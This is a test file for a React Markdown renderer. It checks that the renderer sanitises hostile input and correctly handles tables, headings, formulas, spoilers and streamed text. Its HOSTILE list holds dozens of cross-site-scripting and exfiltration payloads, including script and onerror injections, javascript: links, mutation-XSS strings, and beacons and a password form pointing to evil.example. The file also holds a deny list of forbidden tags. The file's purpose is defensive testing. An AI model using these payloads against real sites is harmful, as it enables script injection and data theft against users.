import { MantineProvider } from "@mantine/core";
import { render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { beforeAll, describe, expect, it } from "vitest";
import { Markdown, type MarkdownProps } from "@/ui/markdown/Markdown";

// The test's browser does not say that it is no quirky one, which the typesetter asks for.
Object.defineProperty(document, "compatMode", { value: "CSS1Compat" });

// The machine may be slow at the first reading of these.
beforeAll(async () => {
  await Promise.all([
    import("@/ui/markdown/Rendered"),
    import("@/ui/markdown/typesetter"),
    import("@/ui/markdown/colours"),
  ]);
}, 60_000);

async function shown(text: string, props: Partial<MarkdownProps> = {}): Promise<HTMLElement> {
  const { container } = render(
    <MantineProvider env="test">
      <Markdown text={text} {...props} />
    </MantineProvider>,
  );
  await waitFor(() => expect(container.querySelector("[dir=auto]")).not.toBeNull());
  return container.querySelector<HTMLElement>("[dir=auto]") as HTMLElement;
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://evil.example/x.png' srcset='https://evil.example/y.png 2x'>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg/onload=alert(1)>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](vbscript:msgbox)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:image/svg+xml;base64,PHN2Zy8+)",
  "[x](https://user:pass@evil.example/)",
  "[x](/api/session)",
  "[x](//evil.example)",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='https://ok.example' onclick='alert(1)' ping='https://evil.example' id=x name=y style='position:fixed'>x</a>",
  "![x](https://evil.example/steal?q=secret)",
  "![x](//evil.example/a.png)",
  "![x](/api/chats)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x][r]\n\n[r]: https://evil.example/r.png",
  "<style>*{background:url(https://evil.example)}</style>",
  "<p style='background:url(https://evil.example)' class='mantine-Overlay-root'>x</p>",
  "<link rel=stylesheet href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example/'>",
  "<iframe src='https://evil.example'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='https://evil.example'></object><embed src='https://evil.example'>",
  "<form action='https://evil.example'><input name=password type=password><button>x</button></form>",
  "<input type=image src='https://evil.example/i.png'>",
  "<video src='https://evil.example' poster='https://evil.example/p' autoplay></video>",
  "<audio src='https://evil.example' autoplay></audio>",
  "<picture><source srcset='https://evil.example'><img src='https://evil.example'></picture>",
  "<table background='https://evil.example'><tr><td background='https://evil.example'>x</td></tr></table>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<div id=root data-x=y aria-hidden=true role=dialog tabindex=1>x</div>",
  "<isindex action=javascript:alert(1) type=image>",
  "<blockquote cite='javascript:alert(1)'>x</blockquote>",
  "<marquee onstart=alert(1)>x</marquee>",
  "$\\href{javascript:alert(1)}{x}$ and $\\includegraphics{https://evil.example/x}$",
  "$\\htmlStyle{position:fixed}{x}$ $\\htmlId{root}{x}$",
  "||<img src=x onerror=alert(1)>||",
  '"<b onmouseover=alert(1)>x</b>"',
  "```\"><img src=x onerror=alert(1)>\nx\n```",
];

const FORBIDDEN =
  "script,style,link,meta,base,iframe,frame,object,embed,form,video,audio,source,picture,textarea,select,template,marquee,foreignObject,animate";

describe("what others wrote", () => {
  it.each(HOSTILE)("does nothing: %s", async (text) => {
    const place = await shown(text);

    expect([...place.querySelectorAll(FORBIDDEN)]).toEqual([]);
    for (const element of place.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^(on|srcdoc|srcset|action|formaction|ping|background|poster|cite$|id$|name$)/);
        if (name === "href") expect(value).toMatch(/^(https:\/\/|mailto:)/);
        if (name === "src") expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp|avif);/);
      }
    }
    for (const link of place.querySelectorAll("a")) {
      expect(link.rel).toBe("noopener noreferrer nofollow");
      expect(link.target).toBe("_blank");
      expect(link.href).not.toContain("@");
    }
    expect(place.querySelector("[class*=mantine-Overlay]")).toBeNull();
    expect(place.querySelector("svg:not([class*=tabler])")).toBeNull();
    expect(place.querySelector("input:not([type=checkbox])")).toBeNull();
  });

  it("keeps what is harmless of its HTML", async () => {
    const place = await shown(
      "<details><summary>More</summary>\n\n**bold**\n\n</details>\n\nH<sub>2</sub>O <kbd>Ctrl</kbd> <mark>m</mark><br>next",
    );

    expect(place.querySelector("details summary")?.textContent).toBe("More");
    expect(place.querySelector("details strong")?.textContent).toBe("bold");
    for (const tag of ["sub", "kbd", "mark", "br"]) expect(place.querySelector(tag)).not.toBeNull();
  });
});

describe("pictures", () => {
  it("from elsewhere stand there as their address, to be opened in a new tab", async () => {
    const place = await shown("![A cat](https://pictures.example/cat.png)");

    expect(place.querySelector("img")).toBeNull();
    expect(screen.getByText("https://pictures.example/cat.png")).toBeDefined();
    expect(screen.getByRole("link", { name: /Show image/ }).getAttribute("href")).toBe(
      "https://pictures.example/cat.png",
    );
  });

  it("that came along as pixels are shown", async () => {
    const place = await shown("![dot](data:image/png;base64,iVBORw0KGgo=)");

    expect(place.querySelector("img")?.alt).toBe("dot");
  });
});

describe("text", () => {
  it("has tables, tasks, code and line breaks", async () => {
    const place = await shown(
      "one\ntwo\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n```python\nx = 1\n```",
    );

    expect(place.querySelector("p br")).not.toBeNull();
    expect(place.querySelectorAll("td")).toHaveLength(2);
    expect(screen.getByRole("checkbox", { name: "done" })).toHaveProperty("checked", true);
    expect(place.querySelector("figure figcaption")?.textContent).toContain("python");
    await waitFor(() => expect(place.querySelector(".hljs-number")).not.toBeNull());
    expect(place.querySelector("figure code")?.textContent).toBe("x = 1");
  });

  it.each([
    ["# a\n\n## b\n\n# c", "2a 3b 2c"],
    ["### a\n\n# b\n\n#### c\n\n## d", "2a 2b 3c 3d"],
    ["## a\n\n```sh\n# no heading\n```\n\n#### b\n\n###### c", "2a 3b 4c"],
    ["> # a\n\n- ### b\n\ntext\n\n<h6>c</h6>\n\nd\n---", "2a 3b 4c 3d"],
    ["# a\n\n## b\n\n### c\n\n#### d\n\n##### e\n\n###### f", "2a 3b 4c 5d 6e 6f"],
  ])("leads from one heading to the next without a gap: %j", async (text, levels) => {
    const place = await shown(text);

    const headings = [...place.querySelectorAll("h1, h2, h3, h4, h5, h6")];
    expect(headings.map((each) => each.tagName.slice(1) + each.textContent).join(" ")).toBe(levels);
  });

  it("copies code", async () => {
    const person = userEvent.setup();
    await shown("```\na\n b\n```");

    await person.click(screen.getByRole("button", { name: "Copy code" }));

    expect(await screen.findByText("Copied")).toBeDefined();
    expect(await navigator.clipboard.readText()).toBe("a\n b");
  });

  it("sets formulas and leaves money alone", async () => {
    const place = await shown("It costs $5 and $10, so $x^2$.");

    await waitFor(() => expect(place.querySelector(".katex")).not.toBeNull());
    expect(place.textContent).toContain("It costs $5 and $10, so");
    expect(place.querySelectorAll(".katex")).toHaveLength(1);
  });

  it("covers spoilers until they are asked for", async () => {
    const person = userEvent.setup();
    const place = await shown("The murderer is ||the **gardener**||. a || b");

    expect(place.querySelector("[inert]")?.textContent).toBe("the gardener");
    await person.click(screen.getByRole("button", { name: "Spoiler: show it" }));

    expect(place.querySelector("[inert]")).toBeNull();
    expect(place.querySelector("strong")?.textContent).toBe("gardener");
    expect(place.textContent).toContain("a || b");
  });

  it("tints speech, also with actions in it, and not a measure", async () => {
    const place = await shown('"I *really* do," she said. „Ja!“ A 5" pipe.');

    expect([...place.querySelectorAll("[class*=speech]")].map((each) => each.textContent)).toEqual([
      '"I *really* do,"'.replaceAll("*", ""),
      "„Ja!“",
    ]);
  });

  it("shows links by name across blocks, and footnotes", async () => {
    const place = await shown("See [it][x].[^1]\n\nMore.\n\n[x]: https://example.org\n\n[^1]: A note.");

    expect(place.querySelector("a")?.href).toBe("https://example.org/");
    expect(place.querySelector("section")?.textContent).toContain("A note.");
  });
});

describe("a text that is being written", () => {
  it("looks closed at its end", async () => {
    const place = await shown("Some **bold", { streaming: true });

    expect(place.querySelector("strong")?.textContent).toBe("bold");
  });

  it("leaves the blocks that are finished alone", async () => {
    const draw = (text: string) => (
      <MantineProvider env="test">
        <Markdown text={text} streaming />
      </MantineProvider>
    );
    const { container, rerender } = render(draw("First *one*.\n\nSec"));
    await waitFor(() => expect(container.querySelector("em")).not.toBeNull());
    const first = container.querySelector("em");

    rerender(draw("First *one*.\n\nSecond and **more**"));

    expect(container.querySelector("em")).toBe(first);
    expect(container.querySelector("strong")?.textContent).toBe("more");
  });
});
